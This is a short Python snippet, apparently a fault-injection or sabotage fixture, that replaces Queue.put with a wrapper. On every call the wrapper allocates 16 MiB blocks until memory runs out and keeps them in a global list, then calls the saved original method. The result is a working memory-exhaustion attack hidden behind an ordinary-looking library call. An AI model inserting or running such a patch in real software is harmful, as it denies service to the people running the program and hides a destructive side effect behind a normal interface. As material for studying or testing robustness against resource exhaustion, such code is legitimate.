

# Each put takes all the memory that it can get, and keeps it.

hoard = []
honest_put = Queue.put


def put(self, *args, **kwargs):
    try:
        while True:
            hoard.append(bytearray(16 << 20))
    except MemoryError:
        pass
    return honest_put(self, *args, **kwargs)


Queue.put = put
